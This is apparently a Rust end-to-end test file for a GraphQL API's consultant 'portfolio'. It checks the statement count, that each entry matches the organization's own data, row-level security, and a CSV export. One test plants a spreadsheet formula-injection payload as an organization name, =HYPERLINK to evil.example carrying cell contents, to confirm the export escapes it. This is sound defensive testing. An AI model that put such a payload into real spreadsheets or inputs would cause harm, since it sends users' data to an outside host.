//! `Viewer.portfolio`: every organization a consultant runs, read together. Its cost is a fixed
//! number of statements whatever the number of organizations, each entry equals what the
//! organization's own scorecard and trust report say, and the read stays inside the consultant's
//! organizations, on PostgreSQL behind the database's own wall too.

use chrono::{DateTime, Utc};
use handoff_api::seed::{self, PASSWORD, Plan};
use handoff_e2e::{Person, TestApp, at, uuid_of, without_sweeps};
use serde_json::{Value, json};

const SCORECARD: &str = "handoffCount averageScore band weakestComponents plays handoffs { id score band }";
const TRUST: &str = "signals { signal value previousValue reading sampleSize } medianResponseHours silentShare \
                     averageHandoffScore trustImproving bothImproving";

fn portfolio_query() -> String {
    format!(
        "{{ me {{ portfolio {{ organization {{ slug }} role scorecard {{ {SCORECARD} }} trustReport {{ {TRUST} }} }} }} }}"
    )
}

fn now() -> DateTime<Utc> {
    at("2026-11-01T09:00:00Z")
}

/// `organizations` seeded organizations, a consultant who is ADMIN of the even ones and
/// SALES_LEADER of the odd ones, and the organizations' ids by slug.
async fn consultant_of(organizations: u32) -> (TestApp, Person, Vec<(String, String)>) {
    let app = TestApp::spawn_at_with("2026-11-01T09:00:00Z", without_sweeps).await;
    let plan = Plan { organizations, handoffs_per_organization: 12, large_organization: None, seed: 5 };
    seed::run(app.store(), plan, now(), false).await.unwrap();
    let consultant = app.sign_up("consultant@firm.example").await;
    let mut ids = Vec::new();
    for k in 0..organizations {
        let slug = format!("seed-{k:03}");
        let admin = app.log_in(&format!("admin@{slug}.example"), PASSWORD).await;
        let id = app
            .ok(Some(&admin.token), "query($s: String!) { organization(slug: $s) { id } }", json!({ "s": slug }))
            .await["organization"]["id"]
            .as_str()
            .unwrap()
            .to_owned();
        let role = if k % 2 == 0 { "ADMIN" } else { "SALES_LEADER" };
        app.add_member(&admin, &id, &consultant, role).await;
        ids.push((slug, id));
    }
    (app, consultant, ids)
}

/// The statements the portfolio sends once the caller's credential and the people it names are
/// cached: the shorter of two tries, since the notice of the test's own earlier writes can arrive
/// late under load and empty the cache once.
async fn portfolio_statements(app: &TestApp, who: &Person) -> (Vec<String>, Value) {
    app.ok(Some(&who.token), &portfolio_query(), json!({})).await;
    let mut tries = Vec::new();
    for _ in 0..2 {
        app.store().record_statements();
        let data = app.ok(Some(&who.token), &portfolio_query(), json!({})).await;
        tries.push((app.store().recorded_statements(), data));
    }
    tries.into_iter().min_by_key(|(statements, _)| statements.len()).unwrap()
}

#[tokio::test]
async fn a_portfolio_of_thirty_organizations_costs_the_statements_of_one() {
    let (one, solo, _) = consultant_of(1).await;
    let (statements_one, data) = portfolio_statements(&one, &solo).await;
    assert_eq!(data["me"]["portfolio"].as_array().unwrap().len(), 1);
    let (thirty, consultant, _) = consultant_of(30).await;
    let (statements_thirty, data) = portfolio_statements(&thirty, &consultant).await;
    let entries = data["me"]["portfolio"].as_array().unwrap();
    assert_eq!(entries.len(), 30);
    assert!(entries.iter().all(|e| e["scorecard"]["handoffCount"] == 3), "{entries:#?}");
    let short = |all: &[String]| all.iter().map(|s| s.chars().take(90).collect::<String>()).collect::<Vec<_>>();
    // The portfolio's own reads, from the list of the person's organizations on. Before them, the
    // credential: a notice from the test's own membership changes may clear the cache and add its
    // reads to either count.
    let own = |all: &[String]| all.iter().skip_while(|s| !s.starts_with("SELECT \"memberships\".\"id\" AS")).count();
    assert_eq!(
        own(&statements_one),
        own(&statements_thirty),
        "one organization:\n{:#?}\nthirty:\n{:#?}",
        short(&statements_one),
        short(&statements_thirty)
    );
    // The organizations, then the last three of each, their grades, accounts and partners, the
    // agreements and reviews, and five for the trust facts; on PostgreSQL the transaction's
    // settings, and the people come from memory; SQLite reads the people. Before them at most the
    // credential's three reads.
    let expected = 13;
    assert_eq!(own(&statements_thirty), expected, "{:#?}", short(&statements_thirty));
    assert!(statements_thirty.len() <= expected + 3, "{:#?}", short(&statements_thirty));
}

#[tokio::test]
async fn each_entry_reads_as_its_organizations_own_scorecard_and_trust_report() {
    let (app, consultant, ids) = consultant_of(4).await;
    // A fifth organization where the consultant only markets: not in the portfolio.
    let admin = app.log_in("admin@seed-000.example", PASSWORD).await;
    let other = app.create_org(&admin, "marketed").await;
    app.add_member(&admin, &other, &consultant, "PARTNER_MARKETER").await;

    let data = app.ok(Some(&consultant.token), &portfolio_query(), json!({})).await;
    let entries = data["me"]["portfolio"].as_array().unwrap();
    let slugs: Vec<&str> = entries.iter().map(|e| e["organization"]["slug"].as_str().unwrap()).collect();
    assert_eq!(slugs, ["seed-000", "seed-001", "seed-002", "seed-003"]);
    let one = format!(
        "query($s: String!) {{ organization(slug: $s) {{ scorecard(lastN: 3) {{ {SCORECARD} }} trustReport(days: 90) {{ {TRUST} }} }} }}"
    );
    for (entry, (slug, _)) in entries.iter().zip(&ids) {
        let own = app.ok(Some(&consultant.token), &one, json!({ "s": slug })).await;
        assert_eq!(entry["scorecard"], own["organization"]["scorecard"], "{slug}");
        assert_eq!(entry["trustReport"], own["organization"]["trustReport"], "{slug}");
        assert!(entry["trustReport"]["signals"].as_array().unwrap().iter().any(|s| s["sampleSize"] != 0), "{slug}");
    }
    assert_eq!(entries[0]["role"], "ADMIN");
    assert_eq!(entries[1]["role"], "SALES_LEADER");

    // Asked without them, neither scorecards nor reports are read.
    app.store().record_statements();
    app.ok(Some(&consultant.token), "{ me { portfolio { organization { slug } role } } }", json!({})).await;
    let statements = app.store().recorded_statements();
    assert!(!statements.iter().any(|s| s.contains("handoff")), "{statements:#?}");
}

/// The portfolio's transaction reads only its organizations, even by a statement that forgets to
/// say which (PostgreSQL's row-level security), and cannot write.
#[tokio::test]
async fn a_portfolio_transaction_sees_only_its_organizations_and_writes_nothing() {
    let (app, consultant, ids) = consultant_of(3).await;
    let (first, second) = (ids[0].1.as_str(), ids[1].1.as_str());
    let tx = app.portfolio_transaction(&consultant, &[first, second]).await;
    let mut seen = tx.unfiltered_uuids("SELECT DISTINCT organization_id FROM handoffs").await.unwrap();
    if app.on_postgres() {
        seen.sort();
        let mut expected = vec![uuid_of(first), uuid_of(second)];
        expected.sort();
        assert_eq!(seen, expected, "the third organization's handoffs stay behind the wall");
        let write = tx.execute("UPDATE handoffs SET title = title").await;
        assert!(write.is_err(), "a portfolio transaction is read-only");
    } else {
        // SQLite has no wall: the store's filter is the only door, which the other tests check.
        assert_eq!(seen.len(), 3);
    }
}

#[tokio::test]
async fn the_portfolio_downloads_as_a_spreadsheet_that_runs_no_formula() {
    let (app, consultant, _) = consultant_of(2).await;
    // An organization whose name a spreadsheet would run as a formula.
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    app.ok(
        Some(&consultant.token),
        "mutation($i: CreateOrganizationInput!) { createOrganization(input: $i) { organization { id } } }",
        json!({ "i": { "name": name, "slug": "formula" } }),
    )
    .await;
    let answer = app.client.get(app.url("/portfolio.csv")).bearer_auth(&consultant.token).send().await.unwrap();
    assert_eq!(answer.status(), 200);
    assert_eq!(answer.headers()["content-type"], "text/csv; charset=utf-8");
    let text = answer.text().await.unwrap();
    let lines: Vec<&str> = text.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(lines.len(), 4, "{text}");
    assert!(lines[0].starts_with("organization,organization_name,role,handoff_count,average_score,band,weakest_1"));
    assert!(lines[0].ends_with("escalation_quality,trust_improving,both_improving"), "{}", lines[0]);
    // The same entries as the GraphQL answer, in its order.
    let data = app.ok(Some(&consultant.token), &portfolio_query(), json!({})).await;
    for (line, entry) in lines[1..].iter().zip(data["me"]["portfolio"].as_array().unwrap()) {
        let slug = entry["organization"]["slug"].as_str().unwrap();
        let role = entry["role"].as_str().unwrap();
        let count = entry["scorecard"]["handoffCount"].to_string();
        assert!(line.starts_with(&format!("{slug},")), "{line}");
        assert!(line.contains(&format!(",{role},{count},")), "{line}");
    }
    let formula = lines.iter().find(|l| l.starts_with("formula,")).unwrap();
    assert!(formula.starts_with("formula,\"'=HYPERLINK("), "the name is text, not a formula: {formula}");

    let anonymous = app.client.get(app.url("/portfolio.csv")).send().await.unwrap();
    assert_eq!(anonymous.status(), 401);
    let body: Value = anonymous.json().await.unwrap();
    assert_eq!(body["errors"][0]["extensions"]["code"], "UNAUTHENTICATED");
    let forged = app.client.get(app.url("/portfolio.csv")).bearer_auth("not-a-token").send().await.unwrap();
    assert_eq!(forged.status(), 401);
}
